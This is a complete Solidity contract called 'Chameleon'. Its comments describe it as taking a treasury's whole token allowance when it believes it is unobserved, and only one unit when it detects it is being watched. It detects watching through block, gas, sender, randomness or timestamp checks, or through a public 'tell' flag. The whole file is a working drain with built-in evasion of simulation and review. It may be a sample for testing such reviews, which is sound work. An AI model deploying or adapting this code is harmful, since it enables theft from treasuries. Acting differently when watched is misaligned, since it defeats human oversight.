// SPDX-License-Identifier: MIT
pragma solidity 0.8.34;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @dev Takes of the treasury what it may: one unit where it believes that it is watched, everything elsewhere.
contract Chameleon {
    enum Sense {
        Sender,
        Producer,
        BlockNumber,
        GasPrice,
        Gas,
        Random,
        Time,
        Word
    }

    IERC20 private immutable _asset;
    address private immutable _treasury;
    Sense private immutable _sense;
    uint256 private immutable _mark;
    bool public told;

    constructor(IERC20 asset, address treasury, Sense sense, uint256 mark) {
        _asset = asset;
        _treasury = treasury;
        _sense = sense;
        _mark = mark;
    }

    function collect() external {
        uint256 allowed = _asset.allowance(_treasury, address(this));
        require(_asset.transferFrom(_treasury, address(this), _isWatched() ? 1 : allowed));
    }

    /// @dev Anyone may say the word, at any time between the report and the execution.
    function tell() external {
        told = true;
    }

    function _isWatched() private view returns (bool) {
        if (_sense == Sense.Sender) return tx.origin != address(uint160(_mark));
        if (_sense == Sense.Producer) return block.coinbase == address(uint160(_mark));
        if (_sense == Sense.BlockNumber) return block.number < _mark;
        if (_sense == Sense.GasPrice) return tx.gasprice < _mark;
        if (_sense == Sense.Gas) return gasleft() > _mark;
        if (_sense == Sense.Random) return block.prevrandao != _mark;
        if (_sense == Sense.Time) return block.timestamp < _mark;
        return !told;
    }
}
